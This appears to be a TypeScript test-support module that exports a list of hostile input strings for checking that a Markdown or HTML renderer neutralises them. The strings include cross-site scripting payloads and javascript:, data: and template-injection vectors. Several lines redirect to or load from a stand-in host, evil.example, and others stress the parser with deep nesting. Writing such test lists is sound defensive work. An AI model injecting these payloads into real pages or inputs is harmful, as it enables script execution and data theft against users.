import { readFileSync } from "node:fs";

/** Text that wants to be more than text: markup, Markdown, addresses, and what breaks pages rather than into them. */
const own = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<details open ontoggle=alert(1)>",
  '<a href="javascript:alert(1)">a</a>',
  "<base href=//evil.example/>",
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=a autofocus onfocus=alert(1)>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  "<style>@import'//evil.example/x.css';</style>",
  '<div style="background:url(//evil.example/x)">',
  "<template><script>alert(1)</script></template>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<img src=x id=documentElement name=body>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt&colon;alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[a](vbscript:msgbox(1))",
  "[a](//evil.example/path)",
  "![a](https://evil.example/pixel.gif)",
  '![a"onerror="alert(1)](x)',
  "<https://evil.example/?<script>alert(1)</script>>",
  "[a]: javascript:alert(1)\n\n[a]",
  "```html onmouseover=alert(1)\n<script>alert(1)</script>\n```",
  "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | y |",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "# <img src=x onerror=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one.
  "${alert(1)}",
  "]]>--></script></style>",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\u202eright to left\u202c \u0000 \ufeff \ud800",
  `${"[".repeat(300)}a${"](".repeat(300)}`,
  `${"> ".repeat(200)}deep`,
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
];

/** The strings above and those of a JSON list (strings, or objects with `payload`) that PAYLOADS names. */
export function hostileTexts(): string[] {
  const file = process.env.PAYLOADS;
  if (!file) return own;
  const list = JSON.parse(readFileSync(file, "utf8")) as (string | { payload: string })[];
  return [...own, ...list.map((item) => (typeof item === "string" ? item : item.payload))];
}
